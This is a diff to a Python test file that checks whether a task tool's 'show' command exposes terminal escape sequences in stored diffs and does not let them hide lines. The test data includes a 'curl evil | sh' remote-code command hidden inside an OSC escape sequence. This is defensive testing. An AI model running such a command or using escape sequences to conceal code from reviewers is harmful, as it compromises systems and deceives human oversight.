@@ -215,7 +215,21 @@ def test_an_unterminated_osc_in_a_diff_hides_no_line_after_it(
     asyncio.run(engine.close())
     monkeypatch.setenv("TASKYARD_HOME", str(tmp_path / "home"))
     shown = taskyard(capsys, "show", TASK)
-    assert "+typo fixed0;" in shown and "+    os.system('curl evil | sh')" in shown
+    assert "+typo fixed␛]0;" in shown and "+    os.system('curl evil | sh')" in shown
+
+
+def test_code_inside_a_complete_osc_in_a_diff_is_shown_not_hidden(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    hidden = "+\x1b]0;os.system('curl evil | sh')\x07\x9b2J\n"
+    diff = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -0,0 +1 @@\n" + hidden
+    engine = stored_engine(tmp_path / "home")
+    store_task(engine, TASK, diff=diff)
+    asyncio.run(engine.close())
+    monkeypatch.setenv("TASKYARD_HOME", str(tmp_path / "home"))
+    shown = taskyard(capsys, "show", TASK)
+    assert "+␛]0;os.system('curl evil | sh')␇<9b>2J" in shown
+    assert controls_in(shown) == []
 
 
 def test_a_tool_name_with_osc_and_clear_screen_is_printed_inert(
